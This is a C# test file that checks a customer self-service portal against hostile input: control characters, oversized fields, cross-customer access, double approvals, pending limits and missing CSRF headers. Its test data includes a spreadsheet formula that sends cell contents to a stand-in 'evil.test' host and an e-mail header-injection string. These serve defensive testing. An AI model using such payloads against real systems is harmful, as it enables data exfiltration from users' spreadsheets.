using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using IntegrationHub.Adapters.Files.Export;
using IntegrationHub.Crm.Core.Customers;
using IntegrationHub.Hub.Host.Customers.SelfService;
using IntegrationHub.Hub.Host.Store;
using IntegrationHub.Tests.Common;
using Microsoft.Extensions.DependencyInjection;

namespace IntegrationHub.Hub.Host.Tests.Customers.SelfService;

/// <summary>
/// Hostile input to customers' own data (issue 23 item 3), on both stores: control characters, huge and mistyped fields
/// named in the answer and nothing stored; phones in four spellings normalised alike; another customer's contact answered
/// as an unknown one; a formula in a contact's name guarded in the ERP's file; two approvals at once applied once; a
/// customer at the pending limit refused with a clear error (parallel proposals too); and requests without the CSRF header.
/// </summary>
public abstract class SelfServiceHostileTests(SelfServiceHub fixture)
{
    public sealed class OnSqlite(SelfServiceHub.OnSqlite hub) : SelfServiceHostileTests(hub), IClassFixture<SelfServiceHub.OnSqlite>;

    public sealed class OnPostgreSql(SelfServiceHub.OnPostgreSql hub) : SelfServiceHostileTests(hub), IClassFixture<SelfServiceHub.OnPostgreSql>;

    private static readonly DateTimeOffset ErpVersion = new(2025, 10, 1, 0, 0, 0, TimeSpan.Zero);

    [Fact]
    public async Task Propose_ControlCharactersHugeFieldsWrongTypesUnknownFields_EachNamed_NothingStored()
    {
        using var portal = await fixture.PortalAsync("S03");
        (object Body, string Expected)[] cases =
        [
            (new { subject = "contact", action = "add", values = new { name = "Evil\u0007Bell" } }, "values.name holds the control character U+0007"),
            (new { subject = "contact", action = "add", values = new { name = "Header\r\nBcc: x@evil.test" } }, "values.name holds the control character U+000A"),
            (new { subject = "plans", action = "edit", values = new { plans = new string('计', 10_000) } }, "values.plans is 10000 characters long; at most 4000"),
            (new { subject = "contact", action = "add", values = new { name = new string('A', 10_000) } }, "values.name is 10000 characters long; at most 200"),
            (new { subject = "contact", action = "add", values = new { name = "Ok", phone = 13800138000 } }, "values.phone must be text or null; found Number"),
            (new { subject = "contact", action = "add", values = new { name = "Ok", fax = "1" } }, "values.fax is not a field of a contact"),
            (new { subject = "contact", action = "add", values = new { phone = "13800138000" } }, "values.name is required for a contact"),
            (new { subject = "contact", action = "add", values = new { name = "Ok", email = "not-an-address" } }, "values.email 'not-an-address' is not an e-mail address"),
            (new { subject = "contact", action = "add", values = new { name = "Ok", phone = "12345" } }, "values.phone '12345' is not a phone number"),
            (new { subject = "invoice", action = "add" }, "subject is 'invoice'; use one of contact, address, plans"),
            (new { subject = "plans", action = "remove" }, "action is 'remove'; use one of edit for a plans"),
            (new { subject = "contact", action = "edit", values = new { name = "x" } }, "id is missing: say which contact to edit"),
        ];

        foreach (var (body, expected) in cases)
        {
            using var response = await SelfServiceHub.ProposeAsync(portal, body);
            var answer = await response.Content.ReadFromJsonAsync<JsonElement>();
            Assert.True(response.StatusCode == HttpStatusCode.BadRequest, $"{expected}: {response.StatusCode}");
            Assert.Contains(expected, answer.GetProperty("message").GetString(), StringComparison.Ordinal);
        }

        using var notJson = await portal.PostAsync("/api/portal/profile/changes", new StringContent("{\"subject\":", System.Text.Encoding.UTF8, "application/json"));
        Assert.Equal(HttpStatusCode.BadRequest, notJson.StatusCode);
        using var tooLarge = await portal.PostAsync("/api/portal/profile/changes", new StringContent(new string(' ', ProfileBody.MaxBytes + 1), System.Text.Encoding.UTF8, "application/json"));
        Assert.Equal(HttpStatusCode.BadRequest, tooLarge.StatusCode);
        Assert.Equal(0, await fixture.CountAsync("SELECT count(*) FROM customer_changes WHERE customer_code = 'S03'"));
    }

    [Theory]
    [InlineData("13800138000")]
    [InlineData("+86 138-0013-8000")]
    [InlineData("0086 (138) 0013 8000")]
    [InlineData("１３８００１３８０００")]
    public async Task Check_PhoneInFourSpellings_NormalisedAlike_FullWidthAndMailtoEmail_NothingStored(string phone)
    {
        using var portal = await fixture.PortalAsync("S03");

        using var response = await SelfServiceHub.ProposeAsync(portal, new { subject = "contact", action = "add", values = new { name = "  Chen   Jing ", phone, email = "mailto:chen＠ＦＯＯ.cn" }, check = true });

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var values = (await response.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("values");
        Assert.Equal(("Chen Jing", "+86 13800138000", "chen@foo.cn"), (values.GetProperty("name").GetString(), values.GetProperty("phone").GetString(), values.GetProperty("email").GetString()));
        Assert.Equal(0, await fixture.CountAsync("SELECT count(*) FROM customer_changes WHERE customer_code = 'S03'"));
    }

    [Fact]
    public async Task Propose_AnotherCustomersContact_AnsweredLikeAnUnknownOne_NothingStoredOrChanged()
    {
        await fixture.ImportContactsAsync(ErpVersion, new Contact { ContactId = "S05-1", CustomerCode = "S05", Name = "Neighbour", Phone = "13900000005" });
        using var portal = await fixture.PortalAsync("S04");

        using var foreign = await SelfServiceHub.ProposeAsync(portal, new { subject = "contact", action = "edit", id = "S05-1", values = new { phone = "13900000004" } });
        using var unknown = await SelfServiceHub.ProposeAsync(portal, new { subject = "contact", action = "remove", id = "S05-404" });
        using var address = await SelfServiceHub.ProposeAsync(portal, new { subject = "address", action = "remove", id = "A00000000" });

        Assert.All([foreign, unknown, address], r => Assert.Equal(HttpStatusCode.NotFound, r.StatusCode));
        Assert.Equal("No contact S05-1 on your account.", (await foreign.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("message").GetString());
        Assert.Equal("No contact S05-404 on your account.", (await unknown.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("message").GetString());
        Assert.Equal(0, await fixture.CountAsync("SELECT count(*) FROM customer_changes WHERE customer_code = 'S04'"));
        Assert.Empty((await SelfServiceHub.ProfileAsync(portal)).GetProperty("contacts").EnumerateArray());
        var neighbour = await fixture.Hub.Services.GetRequiredService<ICustomerChangeStore>().ContactAsync("S05-1", CancellationToken.None);
        Assert.Equal("13900000005", neighbour!.Phone);
    }

    [Fact]
    public async Task Approve_FormulaInContactName_GuardedInTheErpFile_ContactStoredAsTyped()
    {
        using var portal = await fixture.PortalAsync("S07");
        using var desk = await fixture.DeskAsync("sup-s07");
        const string Formula = "=HYPERLINK(\"http://evil.test/?x=\"&A1,\"Click\")";

        using var proposed = await SelfServiceHub.ProposeAsync(portal, new { subject = "contact", action = "add", values = new { name = Formula, role = "+SUM(1,2)" } });
        var changeId = (await proposed.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("changeId").GetString()!;
        using var approved = await SelfServiceHub.DecideAsync(desk, changeId, "approve");

        Assert.Equal(HttpStatusCode.OK, approved.StatusCode);
        var file = Path.Combine(fixture.ExportFolder, $"customer-change-{changeId}.csv");
        await WaitFor.ConditionAsync(() => File.Exists(file), "the change's file: " + fixture.Hub.Logs);
        var text = ExportEncodings.Find("gb18030")!.GetString(await File.ReadAllBytesAsync(file));
        Assert.Contains(",name,,\"'=HYPERLINK(\"\"http://evil.test/?x=\"\"&A1,\"\"Click\"\")\",", text, StringComparison.Ordinal);
        Assert.Contains(",role,,'+SUM(1,2),", text.Replace("\"'+SUM(1,2)\"", "'+SUM(1,2)", StringComparison.Ordinal), StringComparison.Ordinal);
        var contact = Assert.Single((await SelfServiceHub.ProfileAsync(portal)).GetProperty("contacts").EnumerateArray());
        Assert.Equal(Formula, contact.GetProperty("name").GetString());
    }

    [Fact]
    public async Task Approve_TwiceAtOnce_AppliedOnce_OneFileOneMessage()
    {
        await fixture.ImportContactsAsync(ErpVersion, new Contact { ContactId = "S10-1", CustomerCode = "S10", Name = "Replay", Role = "Buyer" });
        using var portal = await fixture.PortalAsync("S10");
        using var proposed = await SelfServiceHub.ProposeAsync(portal, new { subject = "contact", action = "remove", id = "S10-1" });
        var changeId = (await proposed.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("changeId").GetString()!;
        using var first = await fixture.DeskAsync("sup-s10-a");
        using var second = await fixture.DeskAsync("sup-s10-b");

        var answers = await Task.WhenAll(SelfServiceHub.DecideAsync(first, changeId, "approve"), SelfServiceHub.DecideAsync(second, changeId, "approve"));

        Assert.Equal([HttpStatusCode.OK, HttpStatusCode.Conflict], answers.Select(a => a.StatusCode).Order());
        Assert.Equal(1, await fixture.CountAsync($"SELECT count(*) FROM outbox WHERE event_key LIKE 'customer-change/{changeId}/%'"));
        Assert.Equal(1, await fixture.CountAsync($"SELECT count(*) FROM crm_changes WHERE kind = 'Contact' AND entity_key = 'S10-1' AND body LIKE '%removedAt%'"));
        Assert.Empty((await SelfServiceHub.ProfileAsync(portal)).GetProperty("contacts").EnumerateArray());
        using var unknown = await SelfServiceHub.DecideAsync(first, "PC-does-not-exist", "approve");
        Assert.Equal(HttpStatusCode.NotFound, unknown.StatusCode);
        foreach (var answer in answers)
        {
            answer.Dispose();
        }
    }

    [Fact]
    public async Task Propose_CustomerWithAThousandPending_RefusedWithTheLimit_ParallelProposalsCannotPassIt()
    {
        var store = fixture.Hub.Services.GetRequiredService<ICustomerChangeStore>();
        for (var i = 0; i < SelfServiceHub.MaxPending - 3; i++)
        {
            Assert.True(await store.ProposeAsync(Pending("S09", i), SelfServiceHub.MaxPending, CancellationToken.None));
        }

        using var portal = await fixture.PortalAsync("S09");
        var attempts = await Task.WhenAll(Enumerable.Range(0, 8).Select(i =>
            SelfServiceHub.ProposeAsync(portal, new { subject = "plans", action = "edit", values = new { plans = $"Plan {i}" } })));

        Assert.Equal(3, attempts.Count(a => a.StatusCode == HttpStatusCode.Accepted));
        var refused = attempts.Where(a => a.StatusCode == HttpStatusCode.Conflict).ToList();
        Assert.Equal(5, refused.Count);
        var error = await refused[0].Content.ReadFromJsonAsync<JsonElement>();
        Assert.Equal("too_many_pending", error.GetProperty("error").GetString());
        Assert.Contains($"{SelfServiceHub.MaxPending} changes waiting for the service desk", error.GetProperty("message").GetString(), StringComparison.Ordinal);
        Assert.Equal(SelfServiceHub.MaxPending, await fixture.CountAsync("SELECT count(*) FROM customer_changes WHERE customer_code = 'S09' AND status = 'pending'"));
        using var desk = await fixture.DeskAsync("sup-s09");
        Assert.Equal(SelfServiceWorkflow.ListLimit, (await desk.GetFromJsonAsync<JsonElement>("/api/desk/customer-changes?customer=S09")).GetArrayLength());
        foreach (var attempt in attempts)
        {
            attempt.Dispose();
        }
    }

    [Fact]
    public async Task Requests_WithoutTheCsrfHeaders_Refused_NothingProposedOrDecided()
    {
        using var portal = await fixture.PortalAsync("S11", csrfHeader: false);
        using var refused = await SelfServiceHub.ProposeAsync(portal, new { subject = "plans", action = "edit", values = new { plans = "x" } });
        Assert.Equal(HttpStatusCode.Forbidden, refused.StatusCode);
        Assert.Equal(0, await fixture.CountAsync("SELECT count(*) FROM customer_changes WHERE customer_code = 'S11'"));

        using var withHeader = await fixture.PortalAsync("S11");
        using var proposed = await SelfServiceHub.ProposeAsync(withHeader, new { subject = "plans", action = "edit", values = new { plans = "x" } });
        var changeId = (await proposed.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("changeId").GetString()!;
        using var desk = await fixture.DeskAsync("sup-s11");
        desk.DefaultRequestHeaders.Remove("X-Hub-Desk");
        using var noHeader = await SelfServiceHub.DecideAsync(desk, changeId, "approve");

        Assert.Equal(HttpStatusCode.Forbidden, noHeader.StatusCode);
        Assert.Equal(1, await fixture.CountAsync($"SELECT count(*) FROM customer_changes WHERE change_id = '{changeId}' AND status = 'pending'"));
    }

    private static ProfileChange Pending(string customer, int i) => new()
    {
        ChangeId = $"PC-seed-{customer}-{i:D4}", CustomerCode = customer, Subject = ProfileSubjects.Plans, Action = ProfileSubjects.Edit,
        Old = new Dictionary<string, string?> { ["plans"] = null }, New = new Dictionary<string, string?> { ["plans"] = $"seed {i}" },
        ProposedBy = "seed", ProposedAt = DateTimeOffset.UtcNow.AddMinutes(-i),
    };
}
